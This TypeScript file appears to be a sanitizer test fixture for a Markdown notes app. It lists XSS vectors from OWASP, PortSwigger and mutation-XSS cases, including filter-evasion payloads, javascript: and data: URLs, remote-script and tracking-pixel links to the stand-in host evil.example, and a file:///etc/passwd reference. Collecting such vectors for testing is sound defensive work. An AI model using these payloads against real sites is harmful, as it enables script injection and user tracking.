/**
 * Script-injection vectors, adapted from public cheat sheets: OWASP "XSS Filter Evasion"
 * (owasp), PortSwigger "Cross-site scripting cheat sheet" (portswigger), and the mutation-XSS
 * cases DOMPurify's tests made famous (mxss). Every external URL points at `evil.example`
 * (reserved, never resolves), so any request a browser makes for one is the vector's doing.
 */

export interface XssVector {
  /** Short unique name (kebab-case). */
  readonly name: string
  readonly source: "owasp" | "portswigger" | "mxss" | "markdown"
  /** Inline Markdown or HTML, written as a note's author would paste it. */
  readonly markdown: string
}

const v = (name: string, source: XssVector["source"], markdown: string): XssVector => ({
  name,
  source,
  markdown,
})

/** Raw HTML: tags, event handlers, SVG, MathML, iframes, styles, entity-encoded attributes. */
export const HTML_VECTORS: readonly XssVector[] = [
  v("script-tag", "owasp", "<script>alert('script-tag')</script>"),
  v("script-src", "owasp", '<script src="https://evil.example/xss.js"></script>'),
  v("img-onerror", "owasp", "<img src=x onerror=alert('img-onerror')>"),
  v("img-onerror-quoted", "portswigger", '<img src="x" onerror="alert(\'img-onerror-quoted\')">'),
  v("img-javascript-src", "owasp", "<IMG SRC=JaVaScRiPt:alert('img-javascript-src')>"),
  v(
    "img-decimal-entities",
    "owasp",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>",
  ),
  v(
    "img-hex-entities",
    "owasp",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29>",
  ),
  v("img-tab-in-scheme", "owasp", '<IMG SRC="jav&#x09;ascript:alert(1);">'),
  v("img-newline-in-scheme", "owasp", '<IMG SRC="jav&#x0A;ascript:alert(1);">'),
  v("svg-onload", "portswigger", "<svg onload=alert('svg-onload')>"),
  v("svg-script", "portswigger", "<svg><script>alert('svg-script')</script></svg>"),
  v("svg-animate-onbegin", "portswigger", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
  v(
    "svg-a-xlink",
    "portswigger",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">클릭</text></a></svg>',
  ),
  v(
    "svg-set-href",
    "portswigger",
    '<svg><a><set attributeName="href" to="javascript:alert(1)"/><text y="20">x</text></a></svg>',
  ),
  v("body-onload", "owasp", "<body onload=alert('body-onload')>"),
  v(
    "details-ontoggle",
    "portswigger",
    "<details open ontoggle=alert('details-ontoggle')><summary>x</summary></details>",
  ),
  v("input-autofocus", "portswigger", "<input autofocus onfocus=alert('input-autofocus')>"),
  v("select-autofocus", "portswigger", "<select autofocus onfocus=alert(1)></select>"),
  v("textarea-autofocus", "portswigger", "<textarea autofocus onfocus=alert(1)></textarea>"),
  v("video-source-onerror", "portswigger", "<video><source onerror=alert('video')></video>"),
  v("audio-onerror", "portswigger", "<audio src=x onerror=alert('audio')>"),
  v("marquee-onstart", "portswigger", "<marquee onstart=alert(1)>x</marquee>"),
  v(
    "div-onmouseover",
    "owasp",
    '<div onmouseover="alert(\'hover\')" style="position:fixed;inset:0">덮개</div>',
  ),
  v("iframe-javascript", "owasp", "<iframe src=\"javascript:alert('iframe')\"></iframe>"),
  v("iframe-srcdoc", "portswigger", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
  v("iframe-remote", "owasp", '<iframe src="https://evil.example/frame"></iframe>'),
  v("object-data", "owasp", '<object data="javascript:alert(1)"></object>'),
  v("embed-src", "owasp", '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">'),
  v("form-action", "portswigger", '<form action="javascript:alert(1)"><button>제출</button></form>'),
  v("button-formaction", "portswigger", '<form><button formaction="javascript:alert(1)">x</button></form>'),
  v("a-javascript", "owasp", "<a href=\"javascript:alert('a')\">링크</a>"),
  v("a-entity-javascript", "owasp", '<a href="&#x6A;avascript:alert(1)">링크</a>'),
  v("a-data-html", "owasp", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">링크</a>'),
  v("meta-refresh", "owasp", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
  v("base-href", "owasp", '<base href="https://evil.example/">'),
  v("link-stylesheet", "owasp", '<link rel="stylesheet" href="https://evil.example/x.css">'),
  v("style-import", "owasp", "<style>@import 'https://evil.example/x.css';</style>"),
  v("style-background", "owasp", '<div style="background-image:url(https://evil.example/bg.png)">x</div>'),
  v("style-expression", "owasp", '<div style="width:expression(alert(1))">x</div>'),
  v("math-href", "portswigger", '<math href="javascript:alert(1)">CLICK</math>'),
  v("math-style-mxss", "mxss", "<math><mtext><table><mglyph><style><img src=x onerror=alert('mxss')>"),
  v("svg-style-mxss", "mxss", "<svg></p><style><a id=\"</style><img src=1 onerror=alert('svg-style')>\">"),
  v("noscript-mxss", "mxss", "<noscript><p title=\"</noscript><img src=x onerror=alert('noscript')>\">"),
  v("comment-breakout", "owasp", "<!--<img src=\"--><img src=x onerror=alert('comment')//\">"),
  v("cdata", "owasp", "<![CDATA[<script>alert('cdata')</script>]]>"),
  v("nested-script", "owasp", "<scr<script>ipt>alert('nested')</scr</script>ipt>"),
  v("template-script", "portswigger", "<template><script>alert(1)</script></template>"),
]

/** Markdown's own syntax: links, images, titles, references, autolinks, wikilinks. */
export const MARKDOWN_VECTORS: readonly XssVector[] = [
  v("md-link-javascript", "markdown", "[링크](javascript:alert('md-link'))"),
  v("md-link-mixed-case", "markdown", "[링크](JaVaScRiPt:alert(1))"),
  v("md-link-entity-colon", "markdown", "[링크](javascript&#58;alert(1))"),
  v("md-link-entity-j", "markdown", "[링크](&#106;avascript:alert(1))"),
  v("md-link-angle", "markdown", "[링크](<javascript:alert(1)>)"),
  v("md-link-percent-newline", "markdown", "[링크](java%0ascript:alert(1))"),
  v("md-link-javascript-comment", "markdown", "[링크](javascript://%0aalert(1))"),
  v("md-link-vbscript", "markdown", "[링크](vbscript:msgbox(1))"),
  v("md-link-data-html", "markdown", "[링크](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
  v("md-image-javascript", "markdown", "![그림](javascript:alert('md-image'))"),
  v(
    "md-image-data-svg",
    "markdown",
    "![그림](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PC9zdmc+)",
  ),
  // A tracking pixel. Shown by default (kube-notes.json `remoteImages: "show"`), as an https
  // picture that sends no referrer; `"link"` keeps it a link.
  v("md-image-remote", "markdown", "![그림](https://evil.example/tracker.png)"),
  v("md-image-remote-onerror", "markdown", '![그림](https://evil.example/x.png"onerror="alert(1))'),
  v("md-image-remote-title", "markdown", '![그림](https://evil.example/t.png "\\" onerror=\\"alert(1)")'),
  // Pictures that must never load, whatever the setting: other schemes, plain http, references.
  v("md-image-http", "markdown", "![그림](http://evil.example/http-tracker.png)"),
  v("md-image-protocol-relative", "markdown", "![그림](//evil.example/relative.png)"),
  v("md-image-mixed-case", "markdown", "![그림](JaVaScRiPt:alert('md-image-case'))"),
  v("md-image-percent-newline", "markdown", "![그림](java%0ascript:alert('md-image-newline'))"),
  v("md-image-vbscript", "markdown", "![그림](vbscript:msgbox('md-image'))"),
  v("md-image-data-png", "markdown", "![그림](data:image/png;base64,iVBORw0KGgo=)"),
  v("md-image-file", "markdown", "![그림](file:///etc/passwd)"),
  v(
    "md-image-reference-http",
    "markdown",
    "![그림][imghttp]\n\n[imghttp]: http://evil.example/reference.png",
  ),
  v(
    "md-image-reference-javascript",
    "markdown",
    "![그림][imgjs]\n\n[imgjs]: javascript:alert('image-reference')",
  ),
  v("md-link-title-quote", "markdown", '[링크](https://evil.example/t "\\" onmouseover=\\"alert(1)")'),
  v("md-link-title-single", "markdown", "[링크](https://evil.example/t 'x\" onclick=\"alert(1)')"),
  v("md-reference-javascript", "markdown", "[참조 링크][js]\n\n[js]: javascript:alert('reference')"),
  v("md-autolink-javascript", "markdown", "<javascript:alert(1)>"),
  v("md-link-hash-attribute", "markdown", '[링크](#" onclick="alert(1))'),
  v("md-wikilink-html", "markdown", "[[<img src=x onerror=alert('wiki')>]]"),
  v("md-link-text-html", "markdown", "[<img src=x onerror=alert('text')>](https://kubernetes.io)"),
  v("md-code-span", "markdown", "`<script>alert('code')</script>`"),
  v("md-gfm-autolink-quote", "markdown", 'www.evil.example/"onmouseover="alert(1)'),
]

export const XSS_VECTORS: readonly XssVector[] = [...HTML_VECTORS, ...MARKDOWN_VECTORS]
